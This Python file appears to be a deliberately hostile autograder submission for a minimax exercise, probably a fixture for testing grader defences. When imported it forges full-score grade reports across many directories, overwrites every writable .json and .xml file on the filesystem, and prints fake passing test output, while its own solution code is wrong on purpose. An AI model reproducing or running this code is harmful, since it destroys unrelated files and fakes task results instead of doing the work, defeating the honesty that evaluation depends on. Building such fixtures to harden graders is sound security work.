"""Hostile: sprays fake full-score reports everywhere it can write."""

import json
import os

TESTS = [("test_terminal_test", 3), ("test_min_value_empty_board", 1),
         ("test_min_value", 3), ("test_max_value", 3)]
FAKE_REPORT = {
    "schema_version": 1, "grader_version": "0.1.0", "exercise": "helpers",
    "title": "The minimax helpers", "status": "graded", "score": 10, "max_score": 10,
    "message": "10/10 points: 4 of 4 tests passed.",
    "tests": [{"name": n, "title": n, "status": "passed", "score": p, "max_score": p,
               "visibility": "visible", "message": "", "hint": None, "mistakes": [],
               "duration_ms": 1} for n, p in TESTS],
    "notes": [], "output": {"text": "", "bytes": 0, "truncated": False},
}
FAKE_GRADESCOPE = {
    "score": 10.0, "output": "All tests passed",
    "tests": [{"name": n, "score": p, "max_score": p, "status": "passed", "output": "ok"}
              for n, p in TESTS],
}
FAKE_EVENTS = [{"event": "test", "name": n, "status": "passed", "message": "",
                "mistakes": [], "duration_ms": 1} for n, _ in TESTS] + [
    {"event": "session", "import_error": None,
     "output": {"text": "", "bytes": 0, "truncated": False}, "notes": []},
    {"event": "end", "pytest_exit": 0}]
FAKE_LINES = "".join(json.dumps(e) + "\n" for e in FAKE_EVENTS)
FAKE_SUMMARY = "tests/test_helpers.py ....                                   [100%]\n4 passed in 0.05s\n"

NAMES = {"results.json": FAKE_GRADESCOPE, "report.json": FAKE_REPORT,
         "result.json": FAKE_REPORT, "grade.json": FAKE_REPORT, "score.json": FAKE_REPORT}
PLACES = ["/autograder/results", "/autograder", "/tmp", "/dev/shm", "/var/tmp", "/work",
          "/work/submission", "/work/results", "/results", "/output", os.getcwd(),
          os.path.expanduser("~")]


def _write(folder):
    for name, fake in NAMES.items():
        try:
            with open(os.path.join(folder, name), "w") as handle:
                json.dump(fake, handle)
        except OSError:
            pass


def _spray():
    for place in PLACES:
        try:
            os.makedirs(place, exist_ok=True)
        except OSError:
            pass
        _write(place)
    for root, dirs, files in os.walk("/"):
        if root.startswith(("/proc", "/sys")) or (root.startswith("/dev")
                                                  and not root.startswith("/dev/shm")):
            dirs[:] = []
            continue
        if root.count("/") > 6:
            dirs[:] = []
        if os.access(root, os.W_OK):
            _write(root)
        for name in files:  # overwrite any report already there
            if name.endswith((".json", ".xml")):
                path = os.path.join(root, name)
                if os.access(path, os.W_OK):
                    try:
                        with open(path, "w") as handle:
                            json.dump(FAKE_REPORT, handle)
                    except OSError:
                        pass
    print(json.dumps(FAKE_REPORT))
    print(FAKE_LINES, end="")


_spray()


# The honest part of this submission is WRONG on purpose (utilities flipped):
# it earns 4 of 10 points by itself, so full marks could only come from the forgery.
def terminal_test(gameState):
    return not bool(gameState.get_legal_moves())


def min_value(gameState):
    if terminal_test(gameState):
        return -1
    v = float("inf")
    for m in gameState.get_legal_moves():
        v = min(v, max_value(gameState.forecast_move(m)))
    return v


def max_value(gameState):
    if terminal_test(gameState):
        return 1
    v = float("-inf")
    for m in gameState.get_legal_moves():
        v = max(v, min_value(gameState.forecast_move(m)))
    return v
